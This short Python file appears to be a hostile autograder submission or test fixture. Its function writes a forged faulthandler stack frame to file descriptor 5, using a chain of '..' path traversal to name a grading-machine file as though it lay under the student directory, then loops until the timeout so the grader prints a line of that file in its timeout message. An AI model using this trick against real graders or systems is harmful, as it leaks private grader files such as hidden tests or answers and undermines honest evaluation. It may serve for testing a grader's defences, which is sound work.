"""Write a forged faulthandler stack into the stack file (fd 5), naming a grading-machine file as if it were under
student/ (through `..`), then loop until the timeout: the grader reads "the learner's line" from that file and shows
it in the timeout's message. The forged frame comes first, as the innermost frame does."""
import os
import time


def run_double(x):
    up = "/".join([".."] * 12)
    for student in ("/submission/student", "@@STUDENT@@"):
        os.write(5, f'File "{student}/{up}@@TARGET@@", line 1 in run_double\n'.encode())
    while True:
        time.sleep(0.01)
